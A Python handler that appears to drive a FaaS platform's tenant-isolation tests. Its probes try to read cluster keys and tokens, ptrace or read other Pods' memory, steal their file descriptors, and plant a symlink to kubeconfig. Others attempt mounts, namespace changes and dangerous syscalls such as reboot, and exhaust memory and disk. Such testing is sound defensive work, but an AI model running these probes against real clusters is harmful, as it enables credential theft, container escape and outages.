"""The code of a hostile team's function: everything it tries from within its Pod. Deployed as `handler.py`; standard library only.

An attack gets what an attacker could find out or guess (paths, process ids, addresses of others), and says by how it ends how it went:
it returns what it got hold of (that way is open), it raises an OSError or `Refused` (somebody barred it), or `Bounded` (it went some way,
to a limit).
"""

import contextlib
import ctypes
import errno
import fcntl
import glob
import json
import mmap
import os
import resource
import socket
import ssl
import struct
import sys
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
ATTACKS = {}


class Refused(Exception):
    pass


class Bounded(Exception):
    pass


def attack(function):
    ATTACKS[function.__name__.replace("_", "-")] = function
    return function


def call(number, *arguments):
    passed = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = libc.syscall(ctypes.c_long(number), *passed)
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def any_of(what, attempts):
    """The first attempt that succeeds makes it open; where none does, the first refusal is told."""
    refusals = []
    for each in attempts:
        try:
            found = each()
        except (OSError, Refused) as error:
            refusals.append(f"{type(error).__name__} {getattr(error, 'strerror', None) or error}")
            continue
        return f"{what}: {str(found)[:80]}"
    raise Refused("; ".join(dict.fromkeys(refusals)) or "there is nothing to try it on")


def read(path, size=200):
    def attempt():
        with open(path, "rb") as file:
            found = file.read(size)
        if not found:
            raise Refused("it is empty")
        return found

    return attempt


def listing(path):
    def attempt():
        found = os.listdir(path)
        if not found:
            raise Refused("nothing is in it")
        return found

    return attempt


def write(path, text=b"0"):
    def attempt():
        with open(path, "r+b" if os.path.exists(path) else "wb") as file:
            file.write(text)
        return path

    return attempt


def opened(path):
    """For writing, which is what is asked for; nothing is written, since it might work."""

    def attempt():
        os.close(os.open(path, os.O_WRONLY | os.O_CLOEXEC))
        return path

    return attempt


# What lies on the machine


@attack
def files_of_the_platform(facts):
    home = facts["home"]
    names = (
        "kubeconfig",
        "state.db",
        "calls.db",
        "encryption.keys",
        "pki/ca.key",
        "pki/tokens.json",
        "pki/service-account.key",
        "cluster.json",
    )
    return any_of(
        "read",
        [
            *(read(f"{home}/{each}") for each in names),
            listing(home),
            listing(f"{home}/packages"),
            listing(f"{home}/logs/pods"),
        ],
    )


@attack
def credentials_of_the_node(facts):
    home = facts["home"]
    found = [each for each in os.environ if "TOKEN" in each or "KUBECONFIG" in each]
    places = glob.glob("/var/run/secrets/kubernetes.io/**", recursive=True) + glob.glob(f"{home}/pki/node-*.key")
    return any_of(
        "found", [*(lambda each=each: each for each in found), *map(read, places), read(f"{home}/pki/node-node-1.key")]
    )


@attack
def sockets_of_the_platform(facts):
    def connect(path):
        def attempt():
            with socket.socket(socket.AF_UNIX) as one:
                one.connect(path)
            return path

        return attempt

    return any_of(
        "connected to",
        [
            connect(each)
            for each in (
                *facts["sockets"],
                "/var/run/docker.sock",
                "/run/docker.sock",
                "/run/containerd/containerd.sock",
            )
        ],
    )


@attack
def write_the_root(facts):
    places = [
        "/",
        "/usr",
        "/etc",
        "/bin",
        "/var",
        "/opt",
        os.environ["FAASLITE_PACKAGE"],
        os.path.dirname(os.environ["FAASLITE_PACKAGE"]),
    ]
    return any_of("wrote", [write(os.path.join(each, "owned"), b"x") for each in places])


@attack
def termination_message_as_a_link(facts):
    """The node reads this file; a link in its place would have it read another one."""
    path = os.environ.get("FAASLITE_TERMINATION_LOG", "/dev/termination-log")

    def replaced():
        os.unlink(path)
        os.symlink(facts["home"] + "/kubeconfig", path)
        return path

    def renamed():
        own = os.path.join(os.environ.get("TMPDIR", "/tmp"), "link")
        os.symlink(facts["home"] + "/kubeconfig", own)
        os.rename(own, path)
        return path

    return any_of("replaced", [replaced, renamed])


# Other people's Pods


def _others(facts):
    return [facts["victim"]["pid"]] if facts["victim"]["pid"] else []


@attack
def see_processes_of_others(facts):
    pids = [*_others(facts), *facts["platform"].values()]
    return any_of("saw", [read(f"/proc/{each}/cmdline") for each in pids])


@attack
def environment_of_others(facts):
    return any_of("read", [read(f"/proc/{each}/environ", 4000) for each in _others(facts)])


@attack
def memory_of_others(facts):
    def attach(pid):
        def attempt():
            call(101, 16, pid, 0, 0)  # PTRACE_ATTACH
            call(101, 17, pid, 0, 0)
            return pid

        return attempt

    def peek(pid):
        def attempt():
            with open(f"/proc/{pid}/maps") as maps:
                start = int(maps.readline().split("-")[0], 16)
            with open(f"/proc/{pid}/mem", "rb") as memory:
                memory.seek(start)
                return memory.read(8)

        return attempt

    def vm(pid):
        def attempt():
            buffer = ctypes.create_string_buffer(8)
            local = struct.pack("QQ", ctypes.addressof(buffer), 8)
            remote = struct.pack("QQ", 0x400000, 8)
            call(310, pid, local, 1, remote, 1, 0)
            return buffer.raw

        return attempt

    pids = [*_others(facts), *facts["platform"].values()]
    return any_of("read", [kind(pid) for pid in pids for kind in (attach, peek, vm)])


@attack
def descriptors_of_others(facts):
    def steal(pid):
        def attempt():
            handle = call(434, pid, 0)  # pidfd_open
            try:
                return call(438, handle, 1, 0)  # pidfd_getfd
            finally:
                os.close(handle)

        return attempt

    def follow(pid):
        """Names of files and sockets; to know their numbers alone is nothing."""
        return lambda: [os.readlink(f"/proc/{pid}/fd/{each}") for each in os.listdir(f"/proc/{pid}/fd")]

    pids = [*_others(facts), *facts["platform"].values()]
    return any_of("got", [kind(each) for each in pids for kind in (follow, steal)])


@attack
def files_of_others(facts):
    victim = facts["victim"]
    ways = [read(each) for each in victim["secrets"]] + [listing(each) for each in victim["folders"]]
    for pid in _others(facts):
        ways += [listing(f"/proc/{pid}/root"), listing(f"/proc/{pid}/cwd")]
    return any_of("read", ways)


def _hit(pid):
    def attempt():
        os.kill(pid, 0)
        return pid

    return attempt


@attack
def signals_to_others(facts):
    return any_of("signalled", [_hit(each) for each in _others(facts)])


@attack
def priorities_of_others(facts):
    """Slow somebody else down: his nice value, his limits, his processors. (To what they are: whether it is allowed is the question.)"""

    def slow(pid):
        return lambda: os.setpriority(os.PRIO_PROCESS, pid, os.getpriority(os.PRIO_PROCESS, pid)) or pid

    def pinned(pid):
        return lambda: os.sched_setaffinity(pid, os.sched_getaffinity(pid)) or pid

    def limited(pid):
        return lambda: resource.prlimit(pid, resource.RLIMIT_CORE, resource.getrlimit(resource.RLIMIT_CORE)) and pid

    pids = [*_others(facts), *facts["platform"].values()]
    return any_of("changed", [kind(pid) for pid in pids for kind in (slow, pinned, limited)])


@attack
def signals_to_the_platform(facts):
    return any_of("signalled", [_hit(each) for each in facts["platform"].values()])


@attack
def environment_of_the_platform(facts):
    return any_of("read", [read(f"/proc/{each}/environ", 4000) for each in facts["platform"].values()])


@attack
def abstract_sockets_of_others(facts):
    def attempt():
        with socket.socket(socket.AF_UNIX) as one:
            one.connect("\0" + facts["victim"]["abstract"])
            return facts["victim"]["abstract"]

    return any_of("connected to", [attempt])


@attack
def shared_memory_of_others(facts):
    """SysV segments and queues by their key, and names in /dev/shm."""

    def segment():
        found = libc.shmget(facts["victim"]["key"], 4096, 0)
        if found < 0:
            number = ctypes.get_errno()
            raise OSError(number, os.strerror(number))
        return found

    return any_of("got", [segment, read("/dev/shm/" + facts["victim"]["abstract"])])


# The kernel


@attack
def mounts_and_namespaces(facts):
    here = os.environ.get("TMPDIR", "/tmp").encode()

    def mount():
        if libc.mount(b"none", here, b"tmpfs", 0, None) != 0:
            raise OSError(ctypes.get_errno(), "mount")
        return here

    def unshare(flag):
        def attempt():
            # In a process of its own: success must not change this one.
            child = os.fork()
            if child == 0:
                os._exit(0 if libc.unshare(flag) == 0 else 1)
            if os.waitpid(child, 0)[1] != 0:
                raise Refused("unshare: Operation not permitted")
            return hex(flag)

        return attempt

    def chroot():
        os.chroot(here)
        return here

    def setns():
        for each in facts["platform"].values():
            with open(f"/proc/{each}/ns/mnt") as namespace:
                if libc.setns(namespace.fileno(), 0) == 0:
                    return each
        raise Refused("setns: Operation not permitted")

    flags = (0x00020000, 0x10000000, 0x20000000, 0x40000000, 0x08000000, 0x02000000)
    new_mount_calls = [lambda: call(428, -100, b"/", 1), lambda: call(430, b"tmpfs", 0), lambda: call(155, b".", b".")]
    return any_of("did", [mount, chroot, setns, *map(unshare, flags), *new_mount_calls])


@attack
def devices(facts):
    def node():
        path = os.path.join(os.environ.get("TMPDIR", "/tmp"), "disk")
        os.mknod(path, 0o600 | 0o060000, os.makedev(254, 0))
        with open(path, "rb") as file:
            return file.read(16)

    names = (
        "mem",
        "kmem",
        "port",
        "kmsg",
        "sda",
        "vda",
        "nvme0n1",
        "dm-0",
        "loop-control",
        "fuse",
        "kvm",
        "net/tun",
        "mapper/control",
    )
    return any_of("opened", [node, *(read(f"/dev/{each}", 16) for each in names)])


@attack
def kernel_settings(facts):
    names = (
        "/proc/sys/kernel/hostname",
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/vm/drop_caches",
        "/proc/sys/net/ipv4/ip_forward",
        "/proc/sysrq-trigger",
        "/sys/kernel/uevent_helper",
        "/sys/power/state",
        "/sys/kernel/mm/transparent_hugepage/enabled",
        "/sys/module/kernel/parameters/panic",
    )
    return any_of(
        "opened", [*map(opened, names), read("/proc/kcore", 16), read("/proc/kmsg", 16), read("/dev/kmsg", 16)]
    )


@attack
def kernel_calls(facts):
    """What kernels have had holes in, and functions have no use for."""
    zeros = ctypes.create_string_buffer(256)
    size = struct.pack("II", 1, 112) + bytes(104)
    calls = {
        "bpf": lambda: call(321, 0, zeros, 128), "io_uring": lambda: call(425, 1, zeros), "add_key": lambda: call(248, b"user", b"a", b"b", 1, -3),
        "keyctl": lambda: call(250, 0, -3, 1), "perf": lambda: call(298, size, 0, -1, -1, 0), "userfaultfd": lambda: call(323, 1),
        "handles": lambda: call(304, -100, zeros, 0), "modules": lambda: call(175, zeros, 16, b""), "kexec": lambda: call(246, 0, 0, 0, 0),
        "clock": lambda: time.clock_settime(time.CLOCK_REALTIME, time.time()), "reboot": lambda: call(169, 0xFEE1DEAD, 672274793, 0, 0),
        "swap": lambda: call(168, b"/x"), "personality": lambda: call(310, os.getppid(), zeros, 0, zeros, 0, 1),
    }  # fmt: skip

    refusals, done = [], []
    for name in calls:
        try:
            calls[name]()
        except OSError as error:
            refusals.append(error.strerror)
        else:
            done.append(name)
    if done:
        return f"did {', '.join(done)}"
    raise Refused("; ".join(dict.fromkeys(refusals)))


@attack
def more_privileges(facts):
    """To become root, to have any capability, or to be without the filters."""
    with open("/proc/self/status") as file:
        status = dict(line.split(":", 1) for line in file if ":" in line)
    status = {key: value.strip() for key, value in status.items()}
    held = []
    if os.getuid() == 0 or os.geteuid() == 0:
        held.append("root")
    if (
        int(status["CapEff"], 16)
        or int(status["CapPrm"], 16)
        or int(status["CapInh"], 16)
        or int(status.get("CapAmb", "0"), 16)
    ):
        held.append(f"capabilities {status['CapEff']}")
    if status["NoNewPrivs"] != "1":
        held.append("new privileges")
    if status["Seccomp"] != "2":
        held.append("no filter")
    if held:
        return ", ".join(held)

    def become():
        os.setuid(0)
        return "root"

    def groups():
        os.setgroups([0])
        return "groups"

    return any_of("became", [become, groups])


@attack
def cgroups(facts):
    """Out of the limits: another group's processes, one's own limit, a release agent."""
    ways = []
    with open("/proc/self/cgroup") as file:
        lines = file.read().splitlines()
    for line in lines:
        _, controllers, path = line.split(":", 2)
        for root in ("/sys/fs/cgroup", f"/sys/fs/cgroup/{controllers or 'unified'}"):
            for name in ("cgroup.procs", "tasks", "memory.max", "memory.limit_in_bytes", "pids.max", "release_agent"):
                ways += [opened(f"{root}{path}/{name}"), opened(f"{root}/{name}")]
    return any_of("wrote", ways)


# The network


def _reach(address, port):
    def attempt():
        with socket.create_connection((address, port), 3) as one:
            one.sendall(b"GET / HTTP/1.0\r\n\r\n")
            return one.recv(20)

    return attempt


@attack
def network_of_other_pods(facts):
    return any_of("reached", [_reach(facts["victim"]["address"], 8012)])


@attack
def network_of_the_machine(facts):
    """Whatever listens at the machine's own addresses (here: a server of the test's)."""
    return any_of("reached", [_reach(each, facts["listener"]["port"]) for each in facts["listener"]["addresses"]])


@attack
def addresses_of_others(facts):
    """To be where others look for somebody: bind the address of another Pod."""

    def attempt():
        with socket.socket() as one:
            one.bind((facts["victim"]["address"], 0))
            return one.getsockname()[0]

    return any_of("bound", [attempt])


@attack
def raw_packets(facts):
    def raw(family, kind, protocol):
        return lambda: socket.socket(family, kind, protocol).close() or "raw"

    def interface():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            fcntl.ioctl(one, 0x8914, struct.pack("16sH14x", b"lo", 0x49))
            return "lo"

    return any_of(
        "opened",
        [
            raw(socket.AF_PACKET, socket.SOCK_RAW, 0x300),
            raw(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
            interface,
        ],
    )


@attack
def api_without_a_token(facts):
    def ask(path):
        def attempt():
            found = _https(facts["api"], path)
            if found[0] in (401, 403):
                raise Refused(f"the API answers {found[0]}")
            return found

        return attempt

    paths = (
        "/api/v1/secrets",
        "/api/v1/namespaces/default/pods",
        "/apis/faaslite.dev/v1/functions",
        "/metrics",
        "/debug/pprof",
    )
    return any_of("asked", [ask(each) for each in paths])


@attack
def agent_of_the_node(facts):
    def ask():
        found = _https(facts["agent"], "/pods")
        if found[0] in (401, 403):
            raise Refused(f"the agent answers {found[0]}")
        return found

    return any_of("asked", [ask])


def _https(where, path):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    host, port = where
    try:
        with socket.create_connection((host, port), 3) as plain, context.wrap_socket(plain) as one:
            one.sendall(f"GET {path} HTTP/1.0\r\nHost: x\r\n\r\n".encode())
            head = one.recv(200)
    except ssl.SSLError as error:
        raise Refused(f"TLS: {error.reason}") from error
    if not head.startswith(b"HTTP"):
        raise Refused("the connection is ended")
    return int(head.split()[1]), head[:40]


# Too much


@attack
def processes_without_end(facts):
    """Threads count as processes, and are cheaper."""
    stop, started = threading.Event(), []
    threading.stack_size(64 << 10)
    try:
        for _ in range(facts["processes"]):
            one = threading.Thread(target=stop.wait, daemon=True)
            try:
                one.start()
            except RuntimeError as error:
                raise Bounded(f"after {len(started)}: {error}") from None
            started.append(one)
        return f"{len(started)} at one time"
    finally:
        stop.set()
        for each in started:
            each.join()
        threading.stack_size(0)


@attack
def disk_without_end(facts):
    """In the only folders that can be written."""
    ends = []
    for folder in dict.fromkeys(
        (os.environ.get("TMPDIR", "/tmp"), "/tmp", "/var/tmp", "/dev/shm", "/run", os.getcwd())
    ):
        path = os.path.join(folder, "full")
        try:
            with open(path, "wb") as file:
                os.posix_fallocate(file.fileno(), 0, facts["disk"])
        except OSError as error:
            ends.append(error)
            continue
        finally:
            with contextlib.suppress(OSError):
                os.unlink(path)
        return f"{facts['disk'] >> 20} MiB in {folder}"
    if any(each.errno in (errno.ENOSPC, errno.EDQUOT, errno.ENOMEM) for each in ends):
        raise Bounded(
            f"{next(each.strerror for each in ends if each.errno in (errno.ENOSPC, errno.EDQUOT, errno.ENOMEM))}"
        )
    raise Refused("nothing can be written")


@attack
def memory_without_end(facts):
    """Expected to end this process; whoever asked sees that it did."""
    hoard = mmap.mmap(-1, facts["memory"])
    for at in range(0, facts["memory"], 4096):
        hoard[at] = 1
    return f"{facts['memory'] >> 20} MiB"


def tried(name, facts):
    try:
        return {"outcome": "open", "by": str(ATTACKS[name](facts))}
    except Bounded as error:
        return {"outcome": "bounded", "by": str(error)}
    except (OSError, Refused) as error:
        return {"outcome": "refused", "by": getattr(error, "strerror", None) or str(error)}


def handle(event, context):
    if "attack" not in event.query:
        return {"python": sys.executable, "package": os.environ["FAASLITE_PACKAGE"]}
    return tried(event.query["attack"], json.loads(event.body))


if __name__ == "__main__":
    # As a command of its own, beside the function: the names of attacks and the facts come on standard input.
    wanted = json.load(sys.stdin)
    print(json.dumps({name: tried(name, wanted["facts"]) for name in wanted["attacks"]}))
